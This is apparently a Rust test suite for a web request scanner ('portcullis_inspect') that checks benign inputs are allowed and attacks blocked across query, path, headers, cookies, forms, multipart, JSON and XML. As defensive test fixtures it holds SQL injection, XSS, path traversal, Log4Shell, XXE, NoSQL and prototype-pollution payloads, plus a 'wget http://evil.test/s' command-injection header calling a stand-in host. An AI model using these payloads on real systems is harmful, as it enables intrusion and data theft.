#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "test helpers outside #[test] functions")]

//! The request scanner end to end: every location, the policy knobs (threshold, paranoia, mode,
//! exclusions, skip set, headers, body cap), accept and reject for each.

use portcullis_inspect::{
    AttackClass, Exclusion, InspectPolicy, Inspector, Location, Mode, PolicyError, Report, RequestView, Target, Verdict,
};

fn inspector(p: InspectPolicy) -> Inspector {
    Inspector::new(p.compile().unwrap())
}

fn default() -> Inspector {
    inspector(InspectPolicy::default())
}

fn json(ins: &Inspector, body: &str) -> Report {
    ins.scan_request(&RequestView::new("POST").with_body(Some("application/json"), body.as_bytes(), false))
}

fn rules(r: &Report) -> Vec<&'static str> {
    r.findings.iter().map(|f| f.rule_id).collect()
}

#[test]
fn benign_json_api_request_is_allowed() {
    let body = r#"{"name":"Siobhan O'Brien","email":"s.obrien@example.ie","note":"Deliver after 6pm; ring twice!",
        "items":[{"sku":"A-1","qty":2,"price":"12.50"}],"meta":{"json":"{\"a\":1}","url":"https://example.com/?a=1&b=2"}}"#;
    let r = json(&default(), body);
    assert_eq!(r.verdict, Verdict::Allow, "{:?}", r.findings);
    assert_eq!(r.score, 0);
    assert!(!r.incomplete);
}

/// Prose that compares numbers, and Markdown with inline code, are not injections; the same
/// shapes with a real payload still are.
#[test]
fn comparisons_and_markdown_in_prose_are_allowed() {
    let ins = default();
    for benign in [
        r#"{"note":"5 < 10 and 10 > 5"}"#,
        r#"{"note":"Remember: 3 <= 4 and 9 >= 8, always."}"#,
        r###"{"body_markdown":"## Release notes\n\n- Fixed **login** bug\n- Added `--verbose` flag\n- See [changelog](https://example.com/changelog#v2-3)"}"###,
        r#"{"body_markdown":"```python\nfor row in rows:\n    print(row['name'], row['total'])\n```"}"#,
        r#"{"body_markdown":"Run:\n```sh\nmake && make test\n```\nthen `make install`"}"#,
    ] {
        let r = json(&ins, benign);
        assert_eq!(r.verdict, Verdict::Allow, "{benign}: {:?}", r.findings);
    }
    for attack in [
        r#"{"note":"5 < 10 or 1=1"}"#,
        r#"{"note":"1 and 2>1"}"#,
        r#"{"body_markdown":"- Added `cat /etc/passwd` flag"}"#,
        r#"{"body_markdown":"see `id` here"}"#,
        r#"{"body_markdown":"```python -c 'import os; os.system(1)'```"}"#,
    ] {
        let r = json(&ins, attack);
        assert_eq!(r.verdict, Verdict::Block, "{attack}: {:?}", r.findings);
    }
}

#[test]
fn json_leaf_attack_is_blocked_with_its_pointer() {
    let r = json(&default(), r#"{"user":{"addresses":[{"line1":"x"},{"line1":"1' OR '1'='1"}]}}"#);
    assert_eq!(r.verdict, Verdict::Block);
    assert_eq!(r.findings[0].class, AttackClass::Sqli);
    assert_eq!(r.findings[0].location, Location::Body("/user/addresses/1/line1".into()));
}

#[test]
fn json_keys_nosql_operators_and_prototype_pollution() {
    let r = json(&default(), r#"{"username":"admin","password":{"$ne":null}}"#);
    assert_eq!(r.verdict, Verdict::Block);
    assert_eq!(rules(&r), ["nosql-operator-key"]);
    assert_eq!(r.findings[0].location, Location::Body("/password/$ne".into()));

    let r = json(&default(), r#"{"settings":{"__proto__":{"isAdmin":true}}}"#);
    assert_eq!(rules(&r), ["proto-key"]);
    let r = json(&default(), r#"{"a":{"constructor":{"prototype":{"x":1}}}}"#);
    assert_eq!(rules(&r), ["proto-key"]);
    // Accept: ordinary keys, and "constructor" / "prototype" on their own.
    let r = json(&default(), r#"{"constructor":"Acme Builders","prototype":"v2","price$":"3"}"#);
    assert_eq!(r.verdict, Verdict::Allow, "{:?}", r.findings);
}

#[test]
fn query_path_header_cookie_form_multipart_locations() {
    let ins = inspector(InspectPolicy { headers: vec!["X-Search".into()], ..InspectPolicy::default() });
    let r = ins.scan_request(&RequestView::new("GET").with_query(Some("page=2&q=%3Cscript%3Ego()%3C%2Fscript%3E")));
    assert_eq!(r.findings[0].location, Location::Query("q".into()));

    let r = ins.scan_request(&RequestView::new("GET").with_path_segments(["files", "..%2F..%2Fetc%2Fpasswd"]));
    assert_eq!(r.verdict, Verdict::Block);
    assert_eq!(r.findings[0].location, Location::Path(1));

    let r = ins.scan_request(&RequestView::new("GET").with_header("X-Search", b"x; wget http://evil.test/s"));
    assert_eq!(r.findings[0].location, Location::Header("x-search".into()));
    // A header the route does not list is not scanned.
    let r = ins.scan_request(&RequestView::new("GET").with_header("X-Other", b"x; wget http://evil.test/s"));
    assert_eq!(r.verdict, Verdict::Allow);

    let r = ins.scan_request(
        &RequestView::new("GET").with_header("Cookie", b"theme=dark; pref=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D"),
    );
    assert_eq!(r.findings[0].location, Location::Cookie("pref".into()));
    assert_eq!(r.findings[0].class, AttackClass::Log4Shell);

    let form = b"name=O%27Brien&comment=%7B%7B7*7%7D%7D";
    let r =
        ins.scan_request(&RequestView::new("POST").with_body(Some("application/x-www-form-urlencoded"), form, false));
    assert_eq!(r.findings[0].location, Location::Form("comment".into()));

    let mp = b"--b\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n<img src=x onerror=steal()>\r\n--b--\r\n";
    let r = ins.scan_request(&RequestView::new("POST").with_body(Some("multipart/form-data; boundary=b"), mp, false));
    assert_eq!(r.findings[0].location, Location::Multipart("bio".into()));
}

#[test]
fn user_agent_scanners_and_referer() {
    let r =
        default().scan_request(&RequestView::new("GET").with_header("User-Agent", b"sqlmap/1.8 (https://sqlmap.org)"));
    assert_eq!(rules(&r), ["scanner-ua"]);
    let r = default().scan_request(
        &RequestView::new("GET").with_header("User-Agent", b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/126.0"),
    );
    assert_eq!(r.verdict, Verdict::Allow);
    let r = default().scan_request(
        &RequestView::new("GET").with_header("Referer", b"https://x.test/?q=' UNION SELECT pass FROM users--"),
    );
    assert_eq!(r.verdict, Verdict::Block);
}

#[test]
fn xml_bodies_xxe_and_text_nodes() {
    let xxe = b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><r>&e;</r>";
    let r = default().scan_request(&RequestView::new("POST").with_body(Some("application/xml"), xxe, false));
    assert!(rules(&r).contains(&"xxe-external-entity"));
    let soap = b"<Envelope><Body><search><q>' or 1=1--</q></search></Body></Envelope>";
    let r = default().scan_request(&RequestView::new("POST").with_body(Some("application/soap+xml"), soap, false));
    assert_eq!(r.findings[0].location, Location::Body("/Envelope/Body/search/q".into()));
    let ok = b"<order><customer>Siobhan O'Brien</customer><note>ring twice &amp; wait</note></order>";
    let r = default().scan_request(&RequestView::new("POST").with_body(Some("text/xml"), ok, false));
    assert_eq!(r.verdict, Verdict::Allow);
}

#[test]
fn encodings_are_seen_through() {
    for q in [
        "q=%253Cscript%253Ego()%253C%252Fscript%253E", // double URL encoding
        "q=PHNjcmlwdD5nbygpPC9zY3JpcHQ%2B",            // base64
        "q=%5Cu003cscript%5Cu003ego()%5Cu003c/script%5Cu003e", // \uXXXX
        "q=%26lt%3Bscript%26gt%3Bgo()%26lt%3B%2Fscript%26gt%3B", // HTML entities
        "q=%C0%AE%C0%AE%C0%AF%C0%AE%C0%AE%C0%AFetc%C0%AFpasswd", // overlong UTF-8
        "q=%EF%BC%9Cscript%EF%BC%9Ego()%EF%BC%9C/script%EF%BC%9E", // full-width
    ] {
        let r = default().scan_request(&RequestView::new("GET").with_query(Some(q)));
        assert_eq!(r.verdict, Verdict::Block, "{q}: {:?}", r.findings);
    }
}

#[test]
fn threshold_and_paranoia() {
    // One `../` is a paranoia-2 signal worth 3: allowed at PL1, and below threshold 5 at PL2.
    let req = RequestView::new("GET").with_query(Some("file=..%2Fimages%2Flogo.png"));
    assert_eq!(default().scan_request(&req).findings.len(), 0);
    let pl2 = inspector(InspectPolicy { paranoia: 2, ..InspectPolicy::default() });
    let r = pl2.scan_request(&req);
    assert_eq!(rules(&r), ["traversal-dotdot-single"]);
    assert_eq!(r.verdict, Verdict::Allow);
    let strict = inspector(InspectPolicy { paranoia: 2, threshold: 3, ..InspectPolicy::default() });
    assert_eq!(strict.scan_request(&req).verdict, Verdict::Block);
}

#[test]
fn monitor_mode_flags_instead_of_blocking() {
    let ins = inspector(InspectPolicy { mode: Mode::Monitor, ..InspectPolicy::default() });
    let r =
        ins.scan_request(&RequestView::new("GET").with_query(Some("id=1%20UNION%20SELECT%20password%20FROM%20users")));
    assert_eq!(r.verdict, Verdict::MonitorFlagged);
}

#[test]
fn exclusions_by_rule_class_and_location() {
    let attack = r#"{"ticket":{"text":"SELECT 1 UNION SELECT password FROM users"},"title":"1 UNION SELECT 2"}"#;
    // By pointer and class: only the ticket text is excused.
    let ins = inspector(InspectPolicy {
        exclusions: vec![Exclusion {
            rule: Some("sqli".into()),
            target: Some(Target::parse("body:/ticket/text").unwrap()),
        }],
        ..InspectPolicy::default()
    });
    let r = json(&ins, attack);
    assert_eq!(r.findings.len(), 1);
    assert_eq!(r.findings[0].location, Location::Body("/title".into()));
    // By rule everywhere.
    let ins = inspector(InspectPolicy {
        exclusions: vec![Exclusion { rule: Some("sqli-union".into()), target: None }],
        ..InspectPolicy::default()
    });
    assert_eq!(json(&ins, attack).verdict, Verdict::Allow);
    // By location, every rule, with a wildcard segment.
    let ins = inspector(InspectPolicy {
        exclusions: vec![
            Exclusion { rule: None, target: Some(Target::parse("/ticket/*").unwrap()) },
            Exclusion { rule: None, target: Some(Target::parse("body:/title").unwrap()) },
        ],
        ..InspectPolicy::default()
    });
    assert_eq!(json(&ins, attack).verdict, Verdict::Allow);
}

#[test]
fn exclusion_typo_fails_compilation_with_its_name() {
    let p = InspectPolicy {
        exclusions: vec![Exclusion { rule: Some("xss-tags".into()), target: None }],
        ..InspectPolicy::default()
    };
    let e = p.compile().unwrap_err();
    assert_eq!(e, PolicyError::UnknownRule("xss-tags".into()));
    assert!(e.to_string().contains("`xss-tags`"));
}

#[test]
fn skip_set_from_the_contract() {
    let ins = inspector(InspectPolicy {
        skip: vec![Target::parse("/items/*/id").unwrap(), Target::parse("param:sort").unwrap()],
        ..InspectPolicy::default()
    });
    let r = json(&ins, r#"{"items":[{"id":"1 UNION SELECT 2"},{"id":"1 UNION SELECT 2","name":"1 UNION SELECT 2"}]}"#);
    assert_eq!(r.findings.len(), 1);
    assert_eq!(r.findings[0].location, Location::Body("/items/1/name".into()));
    let r = ins.scan_request(&RequestView::new("GET").with_query(Some("sort=1%20UNION%20SELECT%202&q=ok")));
    assert_eq!(r.verdict, Verdict::Allow);
}

#[test]
fn body_cap_marks_the_report_incomplete() {
    let ins = inspector(InspectPolicy { body_cap: 16, ..InspectPolicy::default() });
    let body = format!("{}<script>go()</script>", "A".repeat(64));
    let r = ins.scan_request(&RequestView::new("POST").with_body(Some("text/plain"), body.as_bytes(), false));
    assert!(r.incomplete);
    assert_eq!(r.verdict, Verdict::Allow);
    let r = ins.scan_request(&RequestView::new("POST").with_body(Some("text/plain"), b"short", true));
    assert!(r.incomplete, "caller-truncated body");
}

#[test]
fn malformed_json_is_scanned_as_text() {
    let r = json(&default(), r#"{"a": "<script>go()</script>"#);
    assert_eq!(r.verdict, Verdict::Block);
    assert_eq!(r.findings[0].location, Location::Body(String::new()));
}

#[test]
fn display_never_prints_the_payload() {
    let r = default()
        .scan_request(&RequestView::new("GET").with_query(Some("q=%3Cscript%3Esteal(document.cookie)%3C%2Fscript%3E")));
    let shown = r.findings.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n");
    assert!(shown.contains("xss"));
    assert!(!shown.contains("steal"), "{shown}");
    // A payload hidden in a parameter name is cut and control characters are replaced.
    let name = format!("{}\r\nX: y", "n".repeat(100));
    let q = format!("{}=%3Cscript%3E", name.replace("\r\n", "%0D%0A"));
    let r = default().scan_request(&RequestView::new("GET").with_query(Some(&q)));
    let shown = r.findings[0].to_string();
    assert!(!shown.contains('\r') && !shown.contains('\n') && shown.contains('…'), "{shown}");
}
